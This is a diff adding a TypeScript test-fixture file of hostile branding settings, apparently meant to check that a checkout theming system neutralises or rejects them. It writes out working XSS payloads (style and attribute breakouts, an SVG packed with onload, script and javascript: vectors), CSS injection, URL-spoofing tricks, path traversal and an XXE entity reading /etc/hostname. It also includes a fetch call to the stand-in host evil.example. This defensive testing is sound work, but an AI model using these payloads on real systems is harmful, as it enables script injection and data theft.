@@ -1,0 +1,125 @@
+/** What an enemy might put into a folder: settings as JSON would hold them, and files. */
+export type HostileBrand = {
+  readonly settings: Readonly<Record<string, unknown>>;
+  readonly files?: Readonly<Record<string, string | Uint8Array>>;
+};
+
+/** Sets a mark that the journeys look for, and calls a host that they do not know. */
+const RUN = "window.hacked=1;fetch('https://evil.example/stolen')";
+
+const OUT_OF_STYLE = `</style><script>${RUN}</script>`;
+const OUT_OF_ATTRIBUTE = `"><img src=x onerror="${RUN}">`;
+const OUT_OF_RULE =
+  "red}*{display:none}@import'https://evil.example/x.css';a{b:url(//evil.example)";
+
+/** Strings that would be code anywhere else. All of them are plain text, so these brands are valid. */
+export const HOSTILE_TEXTS = {
+  name: `Ev<b>il ${OUT_OF_STYLE.slice(0, 40)}`,
+  heading: `${OUT_OF_RULE.slice(0, 80)}`,
+  note: `${OUT_OF_STYLE} ${OUT_OF_ATTRIBUTE} {{constructor}} \${alert(1)} javascript:alert(1)`,
+};
+
+/** Everything that an SVG can do beside being a picture. */
+export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40" viewBox="0 0 120 40" onload="${RUN}">
+<script>${RUN}</script>
+<script href="https://evil.example/x.js"/>
+<style>@import url(https://evil.example/x.css); rect{fill:url(https://evil.example/y.svg#z)}</style>
+<foreignObject width="100" height="20"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${RUN}"/></foreignObject>
+<image href="https://evil.example/x.png" width="10" height="10" onerror="${RUN}"/>
+<use href="https://evil.example/x.svg#y"/>
+<use xlink:href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' id='a' onload='${RUN}'/%3E#a"/>
+<a href="javascript:${RUN}"><rect width="60" height="40" fill="#117733"/></a>
+<rect width="1" height="1"><set attributeName="href" to="javascript:${RUN}"/><animate onbegin="${RUN}" attributeName="x" to="1" dur="1s"/></rect>
+<rect x="60" width="60" height="40" fill="#117733" onclick="${RUN}"/>
+</svg>`;
+
+/** These are taken in, and can do nothing. */
+export const TAKEN_IN = {
+  texts: {
+    settings: {
+      name: HOSTILE_TEXTS.name,
+      legalName: `Legal ${OUT_OF_STYLE}`,
+      texts: {
+        en: {
+          heading: HOSTILE_TEXTS.heading,
+          note: HOSTILE_TEXTS.note,
+          afterPayment: HOSTILE_TEXTS.note,
+          endedLink: HOSTILE_TEXTS.note,
+          supportHours: OUT_OF_ATTRIBUTE,
+        },
+      },
+    },
+  },
+  drawing: {
+    settings: { name: 'Drawing', logo: { light: 'logo.svg' }, icon: { light: 'logo.svg' } },
+    files: { 'logo.svg': HOSTILE_SVG },
+  },
+} as const satisfies Record<string, HostileBrand>;
+
+/** These are refused, each for what the log must say of it. */
+export const REFUSED: Readonly<Record<string, HostileBrand & { readonly says: RegExp }>> = {
+  turned: { settings: { name: 'Pay\u202Elap' }, says: /name: .*turns the writing direction/ },
+  unseen: { settings: { name: 'Pay\u200BPal' }, says: /name: .*invisible/ },
+  scriptlink: {
+    settings: { name: 'Refused', policies: { terms: `javascript:${RUN}` } },
+    says: /policies\.terms/,
+  },
+  datalink: {
+    settings: { name: 'Refused', support: { site: `data:text/html,<script>${RUN}</script>` } },
+    says: /support\.site/,
+  },
+  lookalike: {
+    settings: {
+      name: 'Refused',
+      return: {
+        allowedOrigins: ['https://shop.example'],
+        afterPayment: 'https://shop.example.evil.example/thanks',
+      },
+    },
+    says: /return\.afterPayment: .*shop\.example\.evil\.example/,
+  },
+  userinfo: {
+    settings: {
+      name: 'Refused',
+      return: {
+        allowedOrigins: ['https://shop.example'],
+        onGivingUp: 'https://shop.example@evil.example/',
+      },
+    },
+    says: /return\.onGivingUp/,
+  },
+  colour: {
+    settings: { name: 'Refused', colors: { light: { accent: OUT_OF_RULE } } },
+    says: /colors\.light\.accent: must be a colour/,
+  },
+  style: {
+    settings: { name: 'Refused', font: `x;}${OUT_OF_STYLE}` },
+    says: /font/,
+  },
+  traversal: {
+    settings: { name: 'Refused', logo: { light: '../drawing/logo.svg' } },
+    says: /logo\.light: must name a file/,
+  },
+  huge: {
+    settings: { name: 'Refused', logo: { light: 'logo.png' } },
+    files: { 'logo.png': new Uint8Array(5_000_000) },
+    says: /logo\.light: .*larger than/,
+  },
+  pretender: {
+    settings: { name: 'Refused', logo: { light: 'logo.png' } },
+    files: { 'logo.png': `<!doctype html><script>${RUN}</script>` },
+    says: /logo\.light/,
+  },
+  entities: {
+    settings: { name: 'Refused', logo: { light: 'logo.svg' } },
+    files: {
+      'logo.svg':
+        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;</text></svg>',
+    },
+    says: /logo\.light/,
+  },
+  unknown: {
+    settings: { name: 'Refused', css: 'body{display:none}' },
+    says: /css/,
+  },
+};
